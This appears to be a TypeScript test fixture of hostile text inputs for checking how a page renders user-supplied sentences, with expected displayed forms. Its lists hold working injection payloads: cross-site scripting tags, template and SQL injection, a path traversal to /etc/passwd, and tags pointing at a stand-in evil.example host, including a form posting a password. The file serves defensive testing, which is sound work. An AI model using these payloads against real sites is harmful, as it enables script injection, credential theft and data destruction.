/**
 * Texts that people type, paste or send to break a page, each with what a reader may see of it at most.
 */

export type HostileText = {
  readonly what: string;
  readonly raw: string;
  /** The sentence as it is shown; absent where nothing is to be taken from it. */
  readonly shown?: string;
};

const text = (what: string, raw: string, shown?: string): HostileText => ({
  what,
  raw,
  ...(shown === undefined ? {} : { shown }),
});

const MARKUP: readonly string[] = [
  "<script>window.hacked = 1</script>",
  "<img src=x onerror=window.hacked=1>",
  "<svg/onload=window.hacked=1>",
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  "<style>*{display:none!important}</style>",
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password></form>',
  '<a href="javascript:window.hacked=1">click</a>',
  "<button popovertarget=settings>x</button>",
  '<p data-sid="1" data-state="final">said by nobody</p>',
  "</p></div></main><h1>Ended</h1>",
  "<!-- --><!DOCTYPE html><body onload=window.hacked=1>",
  "<![CDATA[<b>bold</b>]]>",
  "<template><slot></slot></template>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=window.hacked=1>",
  '"><script>window.hacked=1</script>',
  "' onfocus='window.hacked=1' autofocus='",
  "&lt;b&gt;not bold&lt;/b&gt; &amp; &#x41; &nbsp;",
  "<b>one</b> <i>two</i>",
];

const TEMPLATES: readonly string[] = [
  "{{ constructor.constructor('window.hacked=1')() }}",
  "{{ count }} {{ name }} {{ token }}",
  "${window.hacked = 1}",
  "<%= hacked %> #{hacked} [[hacked]]",
  "{props.text} {() => hacked}",
  "$& $' $` $$ $1 \\1 \\u0041 %s %d %n",
  "javascript:window.hacked=1",
  "data:text/html,<script>window.hacked=1</script>",
  "'; DROP TABLE sentences; --",
  "__proto__ constructor prototype toString",
  '{"type":"broadcast_ended","data":{}}',
  "event: broadcast_ended data: {}",
  "url(javascript:alert(1)) expression(alert(1)) !important",
  "../../../../etc/passwd %00 %2e%2e%2f",
];

const DIRECTIONS: readonly HostileText[] = [
  text("an override", "user \u202egnp.exe\u202c end"),
  text("an override never closed", "abc \u202e def \u202d ghi"),
  text("isolates never closed", "abc \u2066\u2067\u2068 def"),
  text("embeddings in embeddings", "\u202a\u202b".repeat(60) + "deep"),
  text("marks only", "\u200e\u200f\u061c\u200e"),
  text(
    "left and right mixed",
    "Price: 5 \u05e9\u05e7\u05dc\u05d9\u05dd (ILS), \u0645\u0631\u062d\u0628\u0627 12-34.",
  ),
  text("Arabic with a Latin name in brackets", "قال (John Smith, PhD): «نعم» 100%"),
  text("Hebrew with digits and a slash", "היום 24/12 בשעה 10:30 – C++"),
  text("a right-to-left end in a left-to-right text", "The word is \u05e9\u05dc\u05d5\u05dd!"),
];

const CONTROLS: readonly HostileText[] = [
  text("null bytes", "nu\u0000ll\u0000", "null"),
  text("a condition, an escape and a delete", "a\u0007b\u001b[31mc\u007fd", "ab[31mcd"),
  text("C1 controls", "a\u0080b\u009fc", "abc"),
  text("line ends", "one\r\ntwo\nthree\u2028four\u2029five\u0085six", "one two three four five six"),
  text("tabs and feeds", "a\t\t\tb\u000b\u000cc", "a b c"),
  text("byte order marks", "\ufeffa\ufeffb", "ab"),
  text("interlinear annotation", "a\ufff9b\ufffac\ufffbd", "abcd"),
  text("controls and nothing else", "\u0000\u0001\u0002\n\t", ""),
  text("spaces and nothing else", "   \u00a0\u3000\n", ""),
  text("zero-width characters", "z\u200be\u200cr\u200do\u2060w"),
  text("tag characters", "flag \u{e0067}\u{e0062}\u{e007f} hidden"),
  text("variation selectors in a row", `x${"\ufe0f".repeat(8)}y`),
];

const BROKEN: readonly HostileText[] = [
  text("a first half of a pair", "a\ud83db", "a\ufffdb"),
  text("a second half of a pair", "a\ude00b", "a\ufffdb"),
  text("halves the wrong way round", "\ude00\ud83d", "\ufffd\ufffd"),
  text("characters that are none", "a\ufdd0b\uffffc\u{1ffff}d"),
  text("private use", "\ue000\u{f0000}\u{10fffd}"),
  text("stacked marks", `Z${"\u0301".repeat(500)}algo`, `Z${"\u0301".repeat(8)}algo`),
  text(
    "stacked marks of several kinds",
    `H${"\u0300\u0323\u0336\u20dd".repeat(100)}e`,
    `H${"\u0300\u0323\u0336\u20dd".repeat(2)}e`,
  ),
  text("marks without a base", "\u0301\u0302\u0303 alone"),
  text("Thai with more marks than it has", `ก${"\u0e49".repeat(60)}`, `ก${"\u0e49".repeat(8)}`),
];

const LONG: readonly HostileText[] = [
  text(
    "a megabyte in one sentence",
    "lorem ipsum ".repeat(87_500),
    "lorem ipsum ".repeat(167).slice(0, 2_000).trim(),
  ),
  text("a word of 2,000 letters", "W".repeat(2_000)),
  text("a word of 5,000 wide letters", "漢".repeat(5_000), "漢".repeat(2_000)),
  text("a word of 2,000 Arabic letters", "م".repeat(2_000)),
  text("an address without a break", `https://example.org/${"a/b-c_d.".repeat(120)}?q=${"%20".repeat(100)}`),
  text("no-break spaces and hyphens", `${"no\u00a0break\u2011here\u202f".repeat(80)}end`),
  text("a cut through a pair", `${"a".repeat(1_999)}😀`, "a".repeat(1_999)),
  text("the largest ligature", "﷽".repeat(40)),
  text("very tall and very wide letters", "𒐫꧅⸻".repeat(40)),
];

/** Characters of which a browser draws any number as one, which no line end can divide. */
const RUNNING = ["👩\u200d", "क्", "ᄀ", "ᅡ", "\u0600", "ำ"];

export const hostileTexts: readonly HostileText[] = [
  ...MARKUP.map((raw) => text("markup", raw)),
  ...TEMPLATES.map((raw) => text("template", raw)),
  ...DIRECTIONS,
  ...CONTROLS,
  ...BROKEN,
  ...LONG,
  ...RUNNING.map((unit) => text("a run that cannot be divided", unit.repeat(600))),
];

/** What a reader sees of it as a sentence. */
export const asSentence = ({ raw, shown }: HostileText): string => (shown ?? raw).slice(0, 2_000);

/** Whether it is one run that cannot be divided; all a page can do is to keep it from widening everything else. */
export const isOneRun = (shown: string): boolean => RUNNING.some((unit) => shown.includes(unit.repeat(20)));

/** What a reader may see of it as a name, before it is cut: no character that turns the direction around. */
export const asName = (hostile: HostileText): string =>
  asSentence(hostile)
    .replace(/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/g, "")
    .trim();
